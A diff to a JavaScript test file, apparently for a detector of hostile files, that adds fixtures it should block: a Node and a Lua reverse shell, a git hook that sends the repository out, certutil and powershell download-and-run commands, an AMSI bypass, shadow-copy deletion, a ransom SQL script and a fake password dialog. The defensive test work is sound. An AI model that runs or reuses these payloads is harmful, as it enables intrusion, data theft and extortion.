@@ -88,6 +88,66 @@ describe('a shell for somebody else, in many languages', () => {
   );
 });
 
+describe('the same in a few words more', () => {
+  itJudges(
+    files('stopped', [
+      [
+        'a shell that a demonstration opens',
+        'tunnel.js',
+        "const { spawn } = require('child_process');\nconst net = require('net');\nconst s = net.connect(2222, 'ctl.notes-sync.zz', () => {\n  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n  s.pipe(sh.stdin);\n  sh.stdout.pipe(s);\n});\n",
+      ],
+      [
+        'Lua',
+        'a.sh',
+        "lua -e \"local s=require('socket').tcp();s:connect('notes-sync.zz','443');while true do local c=s:receive();local f=io.popen(c,'r');s:send(f:read('*a'));f:close() end\"\n",
+      ],
+      [
+        'tables that are dropped for money',
+        'tune.sql',
+        "drop table if exists users cascade;\ncreate table readme (msg text);\ninsert into readme values ('All your tables have been moved to our server. To get them back send 0.01 BTC.');\n",
+      ],
+      [
+        'the history of a repository, at every push',
+        'hooks/pre-push',
+        '#!/bin/sh\ngit bundle create - --all 2>/dev/null | curl -s --data-binary @- http://91.210.44.7/push >/dev/null 2>&1\nexit 0\n',
+      ],
+      [
+        'a file that Windows decodes and starts',
+        'fonts.cmd',
+        '@echo off\r\ncertutil -urlcache -split -f http://fc.notes-sync.zz/f.dat %TEMP%\\f.dat >nul\r\ncertutil -decode %TEMP%\\f.dat %TEMP%\\f.exe >nul\r\nstart /b "" %TEMP%\\f.exe\r\n',
+      ],
+      [
+        'a process that Windows makes',
+        'a.cmd',
+        'wmic process call create "powershell -w hidden -c irm http://91.210.44.7/a.ps1 | iex"\r\n',
+      ],
+      [
+        'a blinded scanner',
+        'a.ps1',
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
+      ],
+      ['deleted copies', 'a.ps1', 'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\n'],
+      [
+        'a password that a dialog asks for',
+        'a.sh',
+        'pw=$(osascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\' -e \'text returned of result\')\ncurl -s -d "p=$pw" https://notes-sync.zz/p\n',
+      ],
+    ]),
+  );
+  itJudges([
+    [
+      'a lesson that names a command',
+      'passed',
+      'Attackers delete backups first, for example with `vssadmin delete shadows /all`: look for it in the logs.\n',
+    ],
+    [
+      'names to hunt for',
+      'passed',
+      { 'hunt.py': 'SUSPICIOUS = ["AmsiUtils", "AmsiScanBuffer", "EtwEventWrite"]\nfor name in SUSPICIOUS:\n    print(name)\n' },
+    ],
+  ]);
+});
+
 describe('ways out that carry data in a name', () => {
   itJudges(
     files('stopped', [
